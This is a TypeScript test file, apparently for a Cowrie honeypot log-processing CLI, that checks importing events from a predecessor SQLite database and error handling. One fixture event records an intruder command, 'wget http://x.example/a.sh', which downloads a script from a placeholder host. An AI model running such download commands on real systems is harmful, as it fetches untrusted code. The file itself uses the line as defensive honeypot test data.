import Database from 'better-sqlite3';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTempDir, parseJsonObject, removeTempDir, runCli, show } from './support/run-cli.js';

// A minimal predecessor database: its raw_events table as created by its schema (predecessor-details §4.2).
function writeOldDb(path: string, log: string, lines: string[]): void {
  const db = new Database(path);
  db.exec(`CREATE TABLE raw_events (id INTEGER NOT NULL PRIMARY KEY, source VARCHAR(512) NOT NULL, source_offset BIGINT, source_inode VARCHAR(128),
    source_generation INTEGER NOT NULL DEFAULT 0, payload JSON NOT NULL)`);
  const ins = db.prepare('insert into raw_events (source, source_offset, payload) values (?, ?, ?)');
  lines.forEach((l, i) => {
    const e = JSON.parse(l);
    if (e.input) Object.assign(e, { input_original: e.input, input: '[defanged]', input_safe: '[defanged]' });
    ins.run(log, i, JSON.stringify(e));
  });
  db.close();
}

describe('cowrie import predecessor', () => {
  let dir = '';
  beforeAll(async () => {
    dir = await makeTempDir();
  });
  afterAll(async () => removeTempDir(dir));

  it('imports events with their original commands, then a load of the same log adds nothing', async () => {
    const log = join(dir, 'cowrie.json');
    const lines = [
      { eventid: 'cowrie.session.connect', session: 'a1', src_ip: '192.0.2.1', timestamp: '2024-09-28T10:00:00.000001Z', sensor: 's1' },
      { eventid: 'cowrie.command.input', session: 'a1', src_ip: '192.0.2.1', timestamp: '2024-09-28T10:00:01.000001Z', sensor: 's1', input: 'wget http://x.example/a.sh' },
      { eventid: 'cowrie.session.closed', session: 'a1', src_ip: '192.0.2.1', timestamp: '2024-09-28T10:00:02.000001Z', sensor: 's1', duration: 2.0 },
    ].map((e) => JSON.stringify(e));
    writeFileSync(log, lines.join('\n') + '\n');
    writeOldDb(join(dir, 'old.sqlite'), log, lines);

    const r = await runCli(['import', 'predecessor', '--from', 'old.sqlite', '--db', 'new.sqlite', '--json'], { cwd: dir });
    expect(r.code, show(r)).toBe(0);
    const out = parseJsonObject(r) as unknown as { load: { events: number }; payloads: { restoredCommands: number } };
    expect(out.load.events).toBe(3);
    expect(out.payloads.restoredCommands).toBe(1);
    const sessions = await runCli(['sessions', 'show', 's1/a1', '--db', 'new.sqlite', '--json'], { cwd: dir });
    expect(sessions.stdout).toContain('wget http://x.example/a.sh');

    const again = await runCli(['load', 'bulk', 'cowrie.json', '--db', 'new.sqlite', '--json'], { cwd: dir });
    expect(again.code, show(again)).toBe(0);
    expect(parseJsonObject(again)).toMatchObject({ records: 3, events: 0, duplicates: 3 });
  });

  it('says clearly when the source is not a predecessor database, with exit 2', async () => {
    writeFileSync(join(dir, 'empty.sqlite'), '');
    const r = await runCli(['import', 'predecessor', '--from', 'empty.sqlite', '--db', 'x.sqlite'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/not a cowrieprocessor database/);
    const missing = await runCli(['import', 'predecessor', '--from', 'nope.sqlite', '--db', 'x.sqlite'], { cwd: dir });
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/cannot open predecessor database/);
  });
});
